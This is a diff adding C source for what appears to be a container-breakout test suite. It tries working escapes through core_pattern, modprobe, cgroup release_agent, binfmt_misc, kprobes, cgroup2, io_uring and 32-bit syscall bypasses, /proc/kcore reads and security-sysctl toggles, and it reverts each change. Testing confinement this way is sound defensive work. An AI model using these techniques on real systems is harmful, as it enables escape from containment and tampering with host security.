@@ -1,0 +1,429 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Control files of the kernel.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/io_uring.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "breakout.h"
+
+#define CORE_PATTERN	"/proc/sys/kernel/core_pattern"
+#define MODPROBE	"/proc/sys/kernel/modprobe"
+#define NR32_OPENAT	295
+
+/* Dies with a core that does not fit into a pipe, so it waits for a reader. */
+static void crash(void)
+{
+	struct rlimit limit = { RLIM_INFINITY, RLIM_INFINITY };
+	pid_t pid = fork();
+
+	if (pid) {
+		waitpid(pid, NULL, 0);
+		return;
+	}
+	setrlimit(RLIMIT_CORE, &limit);
+	memset(malloc(1 << 20), 1, 1 << 20);
+	signal(SIGABRT, SIG_DFL);
+	abort();
+}
+
+static enum breakout_outcome core_pattern(const struct breakout_attempt *a)
+{
+	char old[256], pattern[256] = "|";
+	enum breakout_outcome outcome;
+
+	(void)a;
+	if (breakout_read(CORE_PATTERN, old, sizeof(old)) < 0 ||
+	    breakout_agent_install(pattern + 1, sizeof(pattern) - 1, 0))
+		return breakout_untried("no core_pattern or /tmp");
+	if (breakout_write(CORE_PATTERN, pattern))
+		return breakout_failed("open");
+	crash();
+	outcome = breakout_agent_proof();
+	breakout_write(CORE_PATTERN, *old ? old : "\n");
+	return outcome;
+}
+
+/* A protocol family that does not exist: the kernel asks for its module. */
+static enum breakout_outcome modprobe(const struct breakout_attempt *attempt)
+{
+	char old[256], path[256];
+	enum breakout_outcome outcome;
+
+	(void)attempt;
+	if (breakout_read(MODPROBE, old, sizeof(old)) < 0 ||
+	    breakout_agent_install(path, sizeof(path), getpid()))
+		return breakout_untried("no modprobe sysctl or /tmp");
+	if (breakout_write(MODPROBE, path))
+		return breakout_failed("open");
+	socket(AF_APPLETALK, SOCK_DGRAM, 0);
+	outcome = breakout_agent_proof();
+	breakout_write(MODPROBE, old);
+	return outcome;
+}
+
+static int write_in(const char *dir, const char *name, const char *text)
+{
+	char path[512];
+
+	snprintf(path, sizeof(path), "%s/%s", dir, name);
+	return breakout_write(path, text);
+}
+
+static void group_path(char *path, const char *dir)
+{
+	strcpy(stpcpy(path, dir), "/x");
+}
+
+static enum breakout_outcome release(const char *dir)
+{
+	char agent[256], group[128];
+	pid_t pid;
+
+	if (breakout_agent_install(agent, sizeof(agent), getpid()))
+		return breakout_untried("no /tmp");
+	if (write_in(dir, "release_agent", agent))
+		return breakout_failed("open");
+	group_path(group, dir);
+	mkdir(group, 0755);
+	if (write_in(group, "notify_on_release", "1"))
+		return breakout_failed("open");
+	pid = fork();
+	if (!pid)
+		_exit(write_in(group, "cgroup.procs", "0") ? 1 : 0);
+	waitpid(pid, NULL, 0);
+	return breakout_agent_proof();
+}
+
+static enum breakout_outcome release_agent(const struct breakout_attempt *a)
+{
+	char *dir = breakout_scratch(), group[128];
+	enum breakout_outcome outcome;
+
+	(void)a;
+	if (mount("cgroup", dir, "cgroup", 0, "none,name=breakout")) {
+		outcome = breakout_failed("mount");
+		rmdir(dir);
+		return outcome;
+	}
+	outcome = release(dir);
+	write_in(dir, "release_agent", "\n");
+	group_path(group, dir);
+	rmdir(group);
+	umount2(dir, MNT_DETACH);
+	rmdir(dir);
+	return outcome;
+}
+
+static enum breakout_outcome change(const struct breakout_attempt *attempt)
+{
+	const char *path = attempt->arg;
+	char old[64] = "";
+
+	if (access(path, F_OK))
+		return breakout_untried("%s: not in this kernel", path);
+	breakout_read(path, old, sizeof(old));
+	if (*old == 'Y' || *old == 'N')
+		return breakout_change(path, *old == 'Y' ? "N" : "Y");
+	return breakout_change(path, *old == '1' ? "0" : "1");
+}
+
+static enum breakout_outcome change_hostname(const struct breakout_attempt *a)
+{
+	(void)a;
+	return breakout_change("/proc/sys/kernel/hostname", "breakout");
+}
+
+static enum breakout_outcome change_shm(const struct breakout_attempt *a)
+{
+	(void)a;
+	return breakout_change("/proc/sys/kernel/shmmni", "1234");
+}
+
+static enum breakout_outcome sysrq(const struct breakout_attempt *attempt)
+{
+	(void)attempt;
+	if (breakout_write("/proc/sysrq-trigger", "h"))
+		return breakout_failed("open");
+	return breakout_escaped("sysrq-trigger took a key");
+}
+
+static enum breakout_outcome uevent(const struct breakout_attempt *attempt)
+{
+	if (access("/sys/kernel/uevent_helper", F_OK))
+		return breakout_untried("uevent_helper: not in this kernel");
+	return change(attempt);
+}
+
+/* Runs what follows in a folder that has a new mount of @type. */
+static enum breakout_outcome mounted(const char *type, char **dir)
+{
+	*dir = breakout_scratch();
+	if (mount(type, *dir, type, 0, NULL)) {
+		rmdir(*dir);
+		return breakout_failed("mount");
+	}
+	return ESCAPED;
+}
+
+static enum breakout_outcome unmount(const char *dir,
+				     enum breakout_outcome outcome)
+{
+	umount2(dir, MNT_DETACH);
+	rmdir(dir);
+	return outcome;
+}
+
+/* In a folder that is there already, else in a new mount. */
+static enum breakout_outcome reach(const char *type, const char *file,
+				   const char *seen, char *path, size_t size,
+				   char **dir)
+{
+	*dir = NULL;
+	snprintf(path, size, "%s/%s", seen, file);
+	if (!access(path, F_OK))
+		return ESCAPED;
+	if (mounted(type, dir) != ESCAPED)
+		return REFUSED;
+	snprintf(path, size, "%s/%s", *dir, file);
+	return ESCAPED;
+}
+
+static enum breakout_outcome binfmt(const struct breakout_attempt *attempt)
+{
+	const char *where = "/proc/sys/fs/binfmt_misc";
+	char path[256], entry[300], *dir;
+	enum breakout_outcome outcome;
+
+	(void)attempt;
+	outcome = reach("binfmt_misc", "register", where, path, sizeof(path),
+			&dir);
+	if (outcome != ESCAPED)
+		return outcome;
+	if (breakout_write(path, ":breakout:M::breakout!::/bin/false:C")) {
+		outcome = breakout_failed("open");
+	} else {
+		snprintf(entry, sizeof(entry), "%.*sbreakout",
+			 (int)(strlen(path) - strlen("register")), path);
+		outcome = access(entry, F_OK) ?
+			breakout_untried("no entry was made") :
+			breakout_escaped("a binary format was registered");
+		breakout_write(entry, "-1");
+	}
+	return dir ? unmount(dir, outcome) : outcome;
+}
+
+static enum breakout_outcome kprobe(const struct breakout_attempt *attempt)
+{
+	char path[256], text[256] = "", *dir;
+	enum breakout_outcome outcome;
+	int fd;
+
+	(void)attempt;
+	outcome = reach("tracefs", "kprobe_events", "/sys/kernel/tracing",
+			path, sizeof(path), &dir);
+	if (outcome != ESCAPED)
+		return outcome;
+	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (fd < 0 || write(fd, "p:breakout do_sys_openat2\n", 26) < 0) {
+		outcome = breakout_failed("open");
+	} else {
+		breakout_read(path, text, sizeof(text));
+		outcome = strstr(text, "breakout") ?
+			breakout_escaped("a kprobe was defined") :
+			breakout_untried("no kprobe was defined");
+		write(fd, "-:breakout\n", 11);
+	}
+	close(fd);
+	return dir ? unmount(dir, outcome) : outcome;
+}
+
+static enum breakout_outcome kprobes_off(const struct breakout_attempt *attempt)
+{
+	char path[256], *dir;
+	enum breakout_outcome outcome;
+
+	(void)attempt;
+	outcome = reach("debugfs", "kprobes/enabled", "/sys/kernel/debug",
+			path, sizeof(path), &dir);
+	if (outcome != ESCAPED)
+		return outcome;
+	outcome = breakout_change(path, "0");
+	return dir ? unmount(dir, outcome) : outcome;
+}
+
+/* Out of the own cgroup, to the top: past every limit. */
+static enum breakout_outcome cgroup2(const struct breakout_attempt *attempt)
+{
+	char *dir, old[200], now[200], back[256];
+	enum breakout_outcome outcome;
+
+	(void)attempt;
+	if (mounted("cgroup2", &dir) != ESCAPED)
+		return REFUSED;
+	breakout_read("/proc/self/cgroup", old, sizeof(old));
+	if (write_in(dir, "cgroup.procs", "0")) {
+		outcome = breakout_failed("open");
+	} else {
+		breakout_read("/proc/self/cgroup", now, sizeof(now));
+		outcome = strcmp(old, now) ?
+			breakout_escaped("left %s", old) :
+			breakout_untried("was at the top already");
+		snprintf(back, sizeof(back), "%s/cgroup.procs", old + 3);
+		write_in(dir, back, "0");
+	}
+	return unmount(dir, outcome);
+}
+
+struct ring {
+	int fd;
+	struct io_uring_params params;
+	char *sq;
+	char *cq;
+	struct io_uring_sqe *sqe;
+};
+
+static int ring_open(struct ring *ring)
+{
+	struct io_uring_params *p = &ring->params;
+
+	memset(ring, 0, sizeof(*ring));
+	ring->fd = syscall(SYS_io_uring_setup, 1, p);
+	if (ring->fd < 0)
+		return -1;
+	ring->sq = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			MAP_SHARED | MAP_POPULATE, ring->fd,
+			IORING_OFF_SQ_RING);
+	ring->cq = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			MAP_SHARED | MAP_POPULATE, ring->fd,
+			IORING_OFF_CQ_RING);
+	ring->sqe = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			 MAP_SHARED | MAP_POPULATE, ring->fd,
+			 IORING_OFF_SQES);
+	return 0;
+}
+
+static int ring_openat(struct ring *ring, const char *path, int flags)
+{
+	struct io_uring_params *p = &ring->params;
+	struct io_uring_cqe *cqe;
+
+	memset(ring->sqe, 0, sizeof(*ring->sqe));
+	ring->sqe->opcode = IORING_OP_OPENAT;
+	ring->sqe->flags = IOSQE_ASYNC;
+	ring->sqe->fd = AT_FDCWD;
+	ring->sqe->addr = (unsigned long)path;
+	ring->sqe->open_flags = flags;
+	*(unsigned int *)(ring->sq + p->sq_off.array) = 0;
+	__atomic_add_fetch((unsigned int *)(ring->sq + p->sq_off.tail), 1,
+			   __ATOMIC_SEQ_CST);
+	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1,
+		    IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+		return -1;
+	cqe = (struct io_uring_cqe *)(ring->cq + p->cq_off.cqes);
+	if (cqe->res >= 0)
+		return cqe->res;
+	errno = -cqe->res;
+	return -1;
+}
+
+/* By a worker thread of the kernel, which acts for us. */
+static enum breakout_outcome core_uring(const struct breakout_attempt *attempt)
+{
+	enum breakout_outcome outcome;
+	struct ring ring;
+	int fd;
+
+	(void)attempt;
+	if (ring_open(&ring))
+		return breakout_untried("io_uring_setup: %s",
+					breakout_errno_name(errno));
+	fd = ring_openat(&ring, CORE_PATTERN, O_RDWR);
+	if (fd < 0)
+		return breakout_failed("io_uring openat");
+	outcome = breakout_write_value(fd, "core_pattern", "breakout.%p");
+	close(fd);
+	return outcome;
+}
+
+static enum breakout_outcome core_32(const struct breakout_attempt *attempt)
+{
+	static char path[] = CORE_PATTERN;
+	enum breakout_outcome outcome;
+	int fd = breakout_syscall32(NR32_OPENAT, AT_FDCWD, (long)path, O_RDWR,
+				    0, 0);
+
+	(void)attempt;
+	if (fd < 0)
+		return breakout_failed("openat");
+	outcome = breakout_write_value(fd, "core_pattern", "breakout.%p");
+	close(fd);
+	return outcome;
+}
+
+static enum breakout_outcome kcore(const struct breakout_attempt *attempt)
+{
+	char magic[4] = "";
+	int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
+
+	(void)attempt;
+	if (fd < 0 || read(fd, magic, 4) != 4)
+		return breakout_failed("open");
+	close(fd);
+	return breakout_escaped("read the kernel's memory");
+}
+
+#define SYSCTL(NAME, PATH)						\
+	{ "sysctl-" NAME, "write /proc/sys/" PATH, change,		\
+	  "/proc/sys/" PATH }
+
+const struct breakout_attempt breakout_kernel_file[] = {
+	{ "core-pattern", "have the host run a program for a crash",
+	  core_pattern },
+	{ "core-pattern-uring", "write core_pattern through io_uring",
+	  core_uring },
+	{ "core-pattern-32", "write core_pattern as a 32-bit program",
+	  core_32 },
+	{ "modprobe", "have the host run a program for a module", modprobe },
+	{ "release-agent", "have the host run a program for an empty cgroup",
+	  release_agent },
+	{ "sysrq", "press a key in sysrq-trigger", sysrq },
+	{ "uevent-helper", "write /sys/kernel/uevent_helper", uevent,
+	  "/sys/kernel/uevent_helper" },
+	{ "binfmt-misc", "register a binary format", binfmt },
+	{ "kprobe-events", "define a kprobe", kprobe },
+	{ "kprobes-enabled", "disarm all kprobes", kprobes_off },
+	{ "cgroup2-top", "move out of the own cgroup", cgroup2 },
+	{ "kcore", "read /proc/kcore", kcore },
+	SYSCTL("sysrq", "kernel/sysrq"),
+	SYSCTL("panic-on-oops", "kernel/panic_on_oops"),
+	SYSCTL("kptr-restrict", "kernel/kptr_restrict"),
+	SYSCTL("dmesg-restrict", "kernel/dmesg_restrict"),
+	SYSCTL("aslr", "kernel/randomize_va_space"),
+	SYSCTL("suid-dumpable", "fs/suid_dumpable"),
+	SYSCTL("symlinks", "fs/protected_symlinks"),
+	SYSCTL("mmap-min-addr", "vm/mmap_min_addr"),
+	SYSCTL("overcommit", "vm/overcommit_memory"),
+	{ "sysfs-ksm", "switch memory merging", change,
+	  "/sys/kernel/mm/ksm/run" },
+	{ "sysfs-printk", "write a parameter of a module", change,
+	  "/sys/module/printk/parameters/time" },
+	SYSCTL("own-forward", "net/ipv4/ip_forward"),
+	{ "sysctl-own-hostname", "write the own host name", change_hostname },
+	{ "sysctl-own-shmmni", "write an own IPC limit", change_shm },
+	{ }
+};
